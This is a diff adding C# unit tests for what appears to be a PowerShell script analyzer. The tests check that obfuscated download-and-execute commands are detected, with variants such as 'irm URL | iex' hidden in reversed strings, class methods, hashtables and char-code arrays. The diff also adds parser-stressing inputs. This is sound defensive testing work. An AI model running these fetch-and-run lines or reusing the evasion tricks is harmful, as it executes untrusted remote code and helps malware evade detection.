@@ -120,6 +120,11 @@ public sealed class PowerShellRunTests
         string.Concat(Enumerable.Repeat("$a.b", 50_000)),
         string.Concat(Enumerable.Repeat("a|", 50_000)),
         string.Concat(Enumerable.Repeat("a && ", 50_000)),
+        string.Concat(Enumerable.Repeat("[ ", 300_000)),
+        string.Concat(Enumerable.Repeat("$a = ", 100_000)),
+        "x " + string.Concat(Enumerable.Repeat("$a", 100_000)),
+        "a" + string.Concat(Enumerable.Repeat(" 2>&1", 100_000)),
+        "'" + new string('{', 900_000) + "' -f 1",
         "$a = 'x' * 1000000; " + string.Concat(Enumerable.Repeat("$a = $a + $a; ", 1_000)),
         "function f { f; f } f",
         "$f = { & $f; & $f }; & $f",
@@ -147,6 +152,55 @@ public sealed class PowerShellRunTests
         "param(",
         "function",
     ];
+
+    [Theory]
+    [InlineData("$c = New-Object Net.WebClient\n$c.UploadString()\n$c.UploadFile()")]
+    [InlineData("$x = [byte[]]\"\".ToCharArray()")]
+    [InlineData("$x = 'a' -split \"\".ToCharArray()\n$x = 'a' -replace \"\".ToCharArray()")]
+    [InlineData("$x = New-Object Net.WebRequest\n$x.GetResponse()\n([net.webrequest]).GetResponse()")]
+    [InlineData("$l = 'abcdef'.ToCharArray()\nforeach ($x in $l) { [array]::Reverse($l) }")]
+    public void What_is_missing_is_no_error(string text) => Evaluate(text + "\niwr URL | iex");
+
+    private static readonly string Reversed = new([.. $"iex (irm {Url})".Reverse()]);
+
+    [Fact]
+    public void Characters_are_reversed_in_place() =>
+        Assert.Contains(Evaluate($"$a = '{Reversed}'.ToCharArray()\n[array]::Reverse($a)\niex (-join $a)"), Runs);
+
+    [Theory]
+    [InlineData("class A { static [void] Go() { irm URL | iex } }\n[A]::Go()")]
+    [InlineData("class A { [string] $u = 'URL'\n A() { }\n [void] Go([string]$c) { iex $c } }\n$a = [A]::new()\n$a.Go((irm $a.u))")]
+    [InlineData("class B { [void] Go() { irm URL | iex } }\nclass A : B { }\n(New-Object A).Go()")]
+    [InlineData("class A { [void] Go() { irm URL | iex } }")]
+    public void Methods_of_classes_are_read(string text) => Assert.Contains(Evaluate(text), Runs);
+
+    [Theory]
+    [InlineData("$d = [ordered]@{ a = 'irm URL | iex' }\n$d.GetEnumerator() | % { iex $_.Value }")]
+    [InlineData("$d = @{ a = 'irm URL | iex' }\nforeach ($x in $d.Values) { iex $x }")]
+    [InlineData("$d = @{}\n$d.Add('a', 'irm URL | iex')\niex $d['a']")]
+    public void Tables_are_walked(string text) => Assert.Contains(Evaluate(text), Runs);
+
+    public static TheoryData<string> Long =>
+    [
+        "foreach ($x in " + string.Join(',', Enumerable.Repeat("'1'", 40)) + ",'irm URL | iex') { iex $x ; if ($true) { $yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy = 1 } }",
+        "[string]::Concat(" + string.Join(',', Enumerable.Repeat("'#'", 400)) + ",\"`n\",'irm URL | iex') | iex",
+        "iex ((" + string.Join(',', (new string('#', 5_000) + $"\nirm {Url} | iex").Select(static c => (int)c)) + " | % { [char]$_ }) -join '')",
+        "$h = @{}\n" + string.Concat(Enumerable.Range(0, 4_200).Select(static i => $"$h['k{i}'] = 1\n")) + "$h['z'] = 'irm URL | iex'\niex $h['z']",
+    ];
+
+    [Theory]
+    [MemberData(nameof(Long))]
+    public void Lists_are_read_to_their_end(string text) => Assert.Contains(Evaluate(text), Runs);
+
+    [Theory]
+    [InlineData("foreach ($x in 1..9000) { $a = $x; $b = $a | Out-Null; $c = \"the block is long enough not to be one that only computes\" }")]
+    [InlineData("$x = 1..100000")]
+    public void A_list_that_is_cut_is_said(string text)
+    {
+        var analysis = new Analysis();
+        Evaluate(text, analysis);
+        Assert.NotEmpty(analysis.Problems);
+    }
 
     [Theory]
     [MemberData(nameof(Hostile))]
